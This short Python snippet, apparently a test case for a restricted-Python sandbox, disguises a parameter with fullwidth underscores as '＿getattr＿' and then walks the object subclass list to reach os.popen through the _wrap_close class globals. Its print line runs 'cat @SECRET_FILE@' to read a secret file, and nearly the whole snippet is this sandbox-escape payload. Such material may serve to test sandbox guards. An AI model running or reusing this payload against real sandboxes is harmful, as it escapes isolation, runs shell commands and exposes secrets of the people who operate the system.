"""A parameter that is called like a guard once it is read."""
import numpy as np
def use(＿getattr＿):
    return ().__class__.__base__
print(use(lambda o, n: o).__subclasses__()[0] and [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["popen"]("cat @SECRET_FILE@").read())
